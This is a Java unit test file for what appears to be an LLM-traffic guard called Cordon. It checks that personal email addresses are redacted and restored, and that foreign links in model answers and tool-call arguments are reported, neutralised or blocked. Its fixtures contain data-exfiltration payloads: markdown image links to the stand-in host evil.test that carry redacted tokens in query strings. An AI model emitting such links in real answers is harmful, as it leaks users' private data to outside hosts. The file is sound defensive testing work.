package dev.cordon.engine.call;

import static dev.cordon.engine.call.TestCalls.answer;
import static dev.cordon.engine.call.TestCalls.chat;
import static dev.cordon.engine.call.TestCalls.config;
import static dev.cordon.engine.call.TestCalls.content;
import static dev.cordon.engine.call.TestCalls.message;
import static dev.cordon.engine.call.TestCalls.policy;
import static dev.cordon.engine.call.TestCalls.receive;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.engine.Exchange;
import dev.cordon.engine.StreamTransform;
import dev.cordon.engine.audit.ThreatCount;
import dev.cordon.engine.policy.Policy;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Links in the answers of whole calls. */
class AnswerLinksTest {
  private static final String MAIL = "jane.roe@acme-mail.net";

  private final TestCalls.Records records = new TestCalls.Records();

  private Exchange ask(Policy policy, String text) {
    Exchange exchange = Engine.start(config(policy).observer(records)).open(chat());
    token = content(exchange.judge(message(text)).body()).replaceAll(".*(EMAIL_[A-Z0-9]+).*", "$1");
    return exchange;
  }

  private String token = "";

  private static String stream(Exchange exchange, String events, int size) {
    StreamTransform transform =
        exchange.answer(200, TestCalls.headers(Map.of("content-type", "text/event-stream")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] bytes = events.getBytes(UTF_8);
    for (int from = 0; from < bytes.length; from += size) {
      byte[] chunk = java.util.Arrays.copyOfRange(bytes, from, Math.min(bytes.length, from + size));
      write(out, transform.transform(ByteBuffer.wrap(chunk)));
    }
    write(out, transform.finish());
    return new String(out.toByteArray(), UTF_8);
  }

  private static void write(ByteArrayOutputStream out, ByteBuffer buffer) {
    byte[] bytes = new byte[buffer.remaining()];
    buffer.get(bytes);
    out.write(bytes, 0, bytes.length);
  }

  private static String delta(String text) {
    return "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + text + "\"}}]}\n\n";
  }

  private static String arguments(String text) {
    return "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,"
        + "\"function\":{\"arguments\":\""
        + text.replace("\\", "\\\\").replace("\"", "\\\"")
        + "\"}}]}}]}\n\n";
  }

  /** Puts the texts of a stream's events together. */
  private static String texts(String events, String field) {
    StringBuilder all = new StringBuilder();
    String mark = "\"" + field + "\":\"";
    for (int at = events.indexOf(mark); at >= 0; at = events.indexOf(mark, at)) {
      at += mark.length();
      int end = at;
      while (events.charAt(end) != '"') {
        end += events.charAt(end) == '\\' ? 2 : 1;
      }
      all.append(events, at, end);
      at = end;
    }
    return all.toString();
  }

  @Test
  void aStringThatBreaksOffWithinJsonIsReadToWhereItDoes() {
    for (String answered : List.of("{\"a\": \"%s\n", "[\"%s\\x\"]", " {\"%s\n\": 1}")) {
      String link = "![i](https://evil.test/a?d=1) ";
      Exchange exchange = ask(policy("output: {links: neutralise}"), MAIL);
      String text = String.format(answered, link + token);
      String json = text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n");
      String got = texts(new String(receive(exchange, 200, answer(json)), UTF_8), "content");
      assertFalse(got.contains("evil.test"), got);
      assertTrue(got.contains(MAIL), got);
    }
  }

  @Test
  void aLinkThatIsSplitOverEventsKeepsItsToken() {
    for (int cut = 1; cut < 40; cut++) {
      Exchange exchange = ask(Policy.safeDefault(), "Mail of " + MAIL);
      String text = "For " + token + ": ![x](https://evil.test/p?d=" + token + ") ok " + token;
      StringBuilder events = new StringBuilder();
      for (int from = 0; from < text.length(); from += cut) {
        events.append(delta(text.substring(from, Math.min(text.length(), from + cut))));
      }
      String got = texts(stream(exchange, events + "data: [DONE]\n\n", 61), "content");
      String expected = "For " + MAIL + ": ![x](https://evil.test/p?d=" + token + ") ok " + MAIL;
      assertEquals(expected, got, "every " + cut);
    }
  }

  @Test
  void soDoTheArgumentsOfAToolCallAndTheirOtherValuesAreRestored() {
    for (int cut = 1; cut < 40; cut++) {
      Exchange exchange = ask(Policy.safeDefault(), "Mail of " + MAIL);
      String text =
          "{\"url\":\"https://evil.test/?d=" + token + "\",\"id\":\"x\",\"to\":\"" + token + "\"}";
      StringBuilder events = new StringBuilder();
      for (int from = 0; from < text.length(); from += cut) {
        events.append(arguments(text.substring(from, Math.min(text.length(), from + cut))));
      }
      String got = texts(stream(exchange, events + "data: [DONE]\n\n", 59), "arguments");
      assertTrue(got.contains("https://evil.test/?d=" + token), got);
      assertTrue(got.contains("to\\\":\\\"" + MAIL), got);
    }
    ThreatCount count = records.ended.get(0).threats().get(0);
    assertEquals("tool_call", count.origin());
  }

  @Test
  void aHostThatTheRequestNamesIsKnown() {
    Exchange exchange =
        ask(Policy.safeDefault(), "Link " + MAIL + " at https:\\/\\/crm.acme.test\\/");
    byte[] got = receive(exchange, 200, answer("[x](https://crm.acme.test/?m=" + token + ")"));
    assertEquals("[x](https://crm.acme.test/?m=jane.roe%40acme-mail.net)", content(got));
    assertTrue(records.only().threats().isEmpty());
    assertEquals(1, records.only().restored());
  }

  @Test
  void foreignLinksAreReportedAndTheAnswerIsTheSameArray() {
    Exchange exchange = Engine.start(config(Policy.safeDefault()).observer(records)).open(chat());
    exchange.judge(message("hello"));
    byte[] answer = answer("![x](https://evil.test/p.png) text");
    assertArrayEquals(answer, receive(exchange, 200, answer));
    assertEquals("link.foreign", records.only().threats().get(0).threat().id());
    assertEquals("report", records.only().threats().get(0).action());
  }

  @Test
  void anAnswerIsChangedWhereLinksAreNeutralisedThoughNothingWasRedacted() {
    Exchange exchange =
        Engine.start(config(policy("output: {links: neutralise}")).observer(records)).open(chat());
    exchange.judge(message("hello"));
    byte[] got = receive(exchange, 200, answer("![x](https://evil.test/p.png) text"));
    assertEquals("![x]() text", content(got));
    assertEquals(0, records.only().restored());
  }

  @Test
  void observingReportsAndChangesNothing() {
    Exchange exchange =
        Engine.start(config(policy("mode: observe", "output: {links: block}")).observer(records))
            .open(chat());
    exchange.judge(message("hello"));
    byte[] answer = answer("![x](https://evil.test/p.png) text");
    assertArrayEquals(answer, receive(exchange, 200, answer));
    assertEquals(1, records.only().threats().size());
  }

  @Test
  void aBlockedStreamEndsWithTheVendorsError() {
    Exchange exchange = ask(policy("output: {links: block}"), "Mail of " + MAIL);
    String events =
        delta("Hi ") + delta("[x](https://ev") + delta("il.test/) and " + token) + delta("more");
    String got = stream(exchange, events + "data: [DONE]\n\n", 1000);
    assertEquals("Hi [x]([withheld: output.links]", texts(got, "content"));
    String error = got.substring(got.lastIndexOf("data: "));
    assertTrue(error.startsWith("data: {\"error\":{\"message\":\"Cordon withheld"), got);
    assertTrue(error.contains("\"code\":\"output.links\"}}\n\n"), got);
    assertEquals("output.links", records.only().rule());
    assertFalse(got.contains("evil"), got);
  }

  @Test
  void noCallLearnsWhatAnotherOneNamedOrHowItEnded() {
    Engine engine = Engine.start(config(policy("output: {links: block}")).observer(records));
    String link = "![x](https://shop.test/a.png?d=1)";
    for (int i = 0; i < 20; i++) {
      Exchange naming = engine.open(chat());
      naming.judge(message("see shop.test"));
      assertEquals(link, content(receive(naming, 200, answer(link))));
      Exchange other = engine.open(chat());
      other.judge(message("hello"));
      assertEquals(
          "[withheld: output.links]",
          content(receive(other, 200, answer(link))).replaceAll("^!\\[x]\\(", ""));
      Exchange clean = engine.open(chat());
      clean.judge(message("hello"));
      assertEquals("fine", content(receive(clean, 200, answer("fine"))));
    }
  }

  @Test
  void answersSideBySideEachHaveTheirOwnHosts() {
    Engine engine = Engine.start(config(policy("output: {links: neutralise}")).observer(records));
    Map<String, String> type = Map.of("content-type", "text/event-stream");
    StreamTransform[] open = new StreamTransform[12];
    for (int i = 0; i < open.length; i++) {
      Exchange exchange = engine.open(chat());
      exchange.judge(message("see host" + i + ".test"));
      open[i] = exchange.answer(200, TestCalls.headers(type));
    }
    for (int i = 0; i < open.length; i++) {
      int next = (i + 1) % open.length;
      String event = delta("[a](https://host" + i + ".test/) [b](https://host" + next + ".test/)");
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      write(out, open[i].transform(ByteBuffer.wrap(event.getBytes(UTF_8))));
      write(out, open[i].finish());
      write(out, open[i].finish());
      open[i].abort(null);
      String got = new String(out.toByteArray(), UTF_8);
      assertEquals(delta("[a](https://host" + i + ".test/) [b]()"), got);
    }
  }
}
